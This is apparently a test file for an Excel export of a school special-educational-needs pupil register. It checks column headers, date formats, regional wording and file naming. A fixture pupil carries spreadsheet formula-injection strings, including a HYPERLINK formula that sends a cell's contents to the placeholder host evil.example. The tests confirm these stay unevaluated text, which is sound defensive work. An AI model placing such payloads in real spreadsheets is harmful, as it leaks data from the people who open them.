import { Workbook, type Worksheet } from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { fixedClock, UK_TIME_ZONE } from '../../../domain';
import { exportRegisterXlsx, registerFileName } from './exportRegisterXlsx';
import { buildRegisterRows, type RegisterRow } from './registerRows';
import { registerWording } from './registerWording';
import { currentPlan, meetingFor, registerPupil } from './testing/registerFixtures';

const clock = fixedClock('2026-12-03T10:00:00Z');
const TODAY = '2026-12-03';

const ada = registerPupil('1', {
  givenName: 'Ada',
  familyName: 'Lovelace',
  preferredName: 'Addie',
  pupilRef: 'A123456789012',
  dateOfBirth: '2016-02-29',
  yearGroup: 'Year 4',
  className: '4B',
  senStatus: 'E',
  primaryNeed: 'ASD',
});
const hostile = registerPupil('2', {
  givenName: '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
  familyName: '+SUM(1,2)',
  preferredName: '@cmd',
  pupilRef: '-2+3',
  className: '\t=1+1',
  dateOfBirth: '',
  senStatus: 'N',
  primaryNeed: null,
});
const adaPlan = currentPlan(ada, '2026-11-20');
const rows: RegisterRow[] = buildRegisterRows(
  { pupils: [ada, hostile], plans: [adaPlan], booked: [meetingFor(adaPlan, '2026-12-08T09:00:00Z')] },
  clock,
  UK_TIME_ZONE,
);

const readBack = async (bytes: Uint8Array): Promise<Worksheet> => {
  const workbook = new Workbook();
  await workbook.xlsx.load(bytes.slice().buffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('the workbook has no sheet');
  return sheet;
};
const rowValues = (sheet: Worksheet, n: number): unknown[] => (sheet.getRow(n).values as unknown[]).slice(1);

describe('exporting the register to Excel', () => {
  test('one row per pupil with the census columns, codes and descriptions', async () => {
    const sheet = await readBack(await exportRegisterXlsx(rows, registerWording('england'), TODAY));
    expect(sheet.name).toBe('SEN register');
    expect(rowValues(sheet, 1)).toEqual([
      'UPN / pupil reference',
      'Legal surname',
      'Legal forename',
      'Preferred name',
      'Date of birth',
      'Year group',
      'Class',
      'SEN provision (N/K/E)',
      'Primary need code',
      'Primary need',
      'Next review',
      'Review status',
    ]);
    expect(rowValues(sheet, 2)).toEqual([
      'A123456789012',
      'Lovelace',
      'Ada',
      'Addie',
      new Date(Date.UTC(2016, 1, 29)),
      'Year 4',
      '4B',
      'E',
      'ASD',
      'Autistic spectrum disorder',
      new Date(Date.UTC(2026, 10, 20)),
      'Meeting booked for 08/12/2026',
    ]);
    expect(sheet.rowCount).toBe(3);
  });

  test('dates are Excel dates shown DD/MM/YYYY; the header is bold, frozen and filterable', async () => {
    const sheet = await readBack(await exportRegisterXlsx(rows, registerWording('england'), TODAY));
    const born = sheet.getCell('E2');
    expect(born.type).toBe(4); // ValueType.Date
    expect(born.numFmt).toBe('dd/mm/yyyy');
    expect(sheet.getCell('A1').font.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:L3');
    expect(sheet.getColumn(10).width).toBe('Autistic spectrum disorder'.length + 2);
  });

  test('a value that looks like a formula stays text and is never evaluated', async () => {
    const bytes = await exportRegisterXlsx(rows, registerWording('england'), TODAY);
    const sheet = await readBack(bytes);
    for (const address of ['A3', 'B3', 'C3', 'D3', 'G3']) {
      const cell = sheet.getCell(address);
      expect(cell.type).toBe(3); // ValueType.String
      expect(cell.formula).toBeUndefined();
    }
    expect(sheet.getCell('C3').value).toBe('=HYPERLINK("https://evil.example/?x="&A2,"Click")');
    expect(sheet.getCell('B3').value).toBe('+SUM(1,2)');
    expect(sheet.getCell('G3').value).toBe('\t=1+1');

    const xml = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(xml).toContain('<sheetData>');
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(xml).toMatch(/<c r="C3"[^>]*t="s"/);
  });

  test('Wales names the provision in its own words, not census codes', async () => {
    const sheet = await readBack(await exportRegisterXlsx(rows, registerWording('wales'), TODAY));
    expect(sheet.name).toBe('ALN register');
    expect(sheet.getCell('A1').value).toBe('Pupil reference');
    expect(sheet.getCell('H1').value).toBe('ALN provision');
    expect([sheet.getCell('H2').value, sheet.getCell('H3').value]).toEqual(['Local authority IDP', 'No ALN']);
  });

  test('the file is named after the register and the day, never a pupil', () => {
    expect(registerFileName(TODAY, registerWording('england'))).toBe('SEN register 2026-12-03.xlsx');
    expect(registerFileName(TODAY, registerWording('scotland'))).toBe('ASN register 2026-12-03.xlsx');
  });
});
